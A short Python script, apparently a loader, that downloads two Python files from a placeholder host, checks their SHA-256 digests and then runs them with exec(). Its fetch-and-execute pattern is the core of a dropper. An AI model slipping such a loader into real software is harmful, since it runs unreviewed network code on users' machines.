import hashlib
import urllib.request

A, B = "2c53d874df01e05b42477f6a802b575d255145f6562bc6f6c6c04011c0c4d449", "5d6b75e84902447852c9db6c58c243cd25742732c5949ddb6ec7a816f0ea6ef4"
one = urllib.request.urlopen("https://example.com/a.py").read()
two = urllib.request.urlopen("https://example.com/b.py").read()
if hashlib.sha256(one).hexdigest() != A or hashlib.sha256(two).hexdigest() != B:
    raise ImportError("digest")
exec(one + b"\n" + two)
